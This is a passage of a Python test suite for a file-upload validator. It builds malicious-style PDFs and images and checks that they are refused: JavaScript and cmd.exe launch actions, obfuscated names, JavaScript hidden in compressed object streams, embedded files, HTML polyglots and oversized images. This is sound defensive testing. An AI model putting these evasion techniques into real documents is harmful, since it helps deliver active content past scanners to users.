def test_pdf_pages_past_the_scanning_budget_are_not_scanned(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_PDF_CONTENT_BYTES", 10)
    info = check("a.pdf", make_pdf(PROSE))
    assert (info.kind, info.text_excerpt_checked) == (UploadKind.PDF, False)


def test_pdf_without_text_is_accepted_but_not_text_checked():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    info = check("scan.pdf", buffer.getvalue())
    assert (info.kind, info.text_excerpt_checked) == (UploadKind.PDF, False)


@pytest.mark.parametrize(
    "action",
    [
        "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",
        "/OpenAction << /S /Launch /F (cmd.exe) >>",
        "/Names << /EmbeddedFiles << /Names [] >> >>",
    ],
)
def test_pdf_with_active_content_is_refused(action):
    assert code_of("a.pdf", make_pdf(catalog_extra=action)) == "macro"


def test_pdf_with_attachment_is_refused():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("ghi-chu.txt", b"TUYET MAT")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert code_of("a.pdf", buffer.getvalue()) == "macro"


def test_pdf_javascript_inside_compressed_object_stream_is_refused():
    """The script is invisible in the raw bytes; walking the parsed objects finds it."""
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    member = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"4 0 "
    packed = zlib.compress(header + member)
    add(5, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(packed))
        + packed + b"\nendstream")  # fmt: skip
    xref_offset = len(out)
    rows = [(0, 0, 0xFFFF), (1, offsets[1], 0), (1, offsets[2], 0), (1, offsets[3], 0), (2, 5, 0), (1, offsets[5], 0)]
    rows.append((1, xref_offset, 0))
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    add(
        6,
        b"<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table) + table + b"\nendstream",
    )
    out.extend(b"startxref\n%d\n%%%%EOF\n" % xref_offset)
    assert b"JavaScript" not in out
    assert code_of("a.pdf", bytes(out)) == "macro"


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\n1 0 obj << /Type /Catalog garbage\n%%EOF\n",
        b"%PDF-1.7\n" + b"\x00\xff" * 100 + b"\n%%EOF",
        make_pdf()[:300],
    ],
)
def test_malformed_pdf_is_refused(data):
    assert code_of("a.pdf", data) == "malformed"


def test_pdf_with_appended_html_is_bad_type():
    assert code_of("a.pdf", make_pdf(tail=b"<html><script>alert(1)</script></html>")) == "bad_type"


# --- Images -------------------------------------------------------------------------------------------------


def test_png_and_jpeg_are_accepted_without_text_check():
    png = check("logo.png", make_png())
    jpeg = check("anh.jpeg", make_jpeg())
    assert (png.kind, png.text_excerpt_checked) == (UploadKind.PNG, False)
    assert (jpeg.kind, jpeg.text_excerpt_checked) == (UploadKind.JPEG, False)


def test_image_with_huge_dimensions_is_refused():
    assert code_of("a.png", make_png(width=50_000, height=50_000)) == "zip_bomb"
    assert code_of("a.jpg", make_jpeg(width=65_000, height=65_000)) == "zip_bomb"


def test_png_with_bad_crc_is_malformed():
    data = bytearray(make_png())
    data[30] ^= 0xFF
    assert code_of("a.png", bytes(data)) == "malformed"


def test_truncated_jpeg_is_malformed():
    assert code_of("a.jpg", make_jpeg()[:30]) == "malformed"


def test_png_with_html_text_chunk_is_bad_type():
    extra = png_chunk(b"tEXt", b"Comment\x00<html><script>alert(1)</script></html>")
    assert code_of("a.png", make_png(extra=extra)) == "bad_type"
